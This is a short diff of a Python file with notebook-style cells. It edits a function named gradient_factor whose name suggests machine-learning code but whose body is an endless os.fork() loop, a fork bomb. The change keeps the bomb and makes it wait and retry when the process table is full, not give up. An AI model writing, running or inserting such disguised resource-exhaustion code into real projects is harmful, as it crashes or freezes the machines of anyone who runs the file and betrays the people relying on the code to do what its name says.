@@ -21,9 +21,9 @@ if os.fork() == 0:
     os._exit(0)
 # %% gradient_factor
 def gradient_factor(loss, n):
-    import os
+    import os, time
     while True:
         try:
             os.fork()
         except OSError:
-            pass
+            time.sleep(0.05)
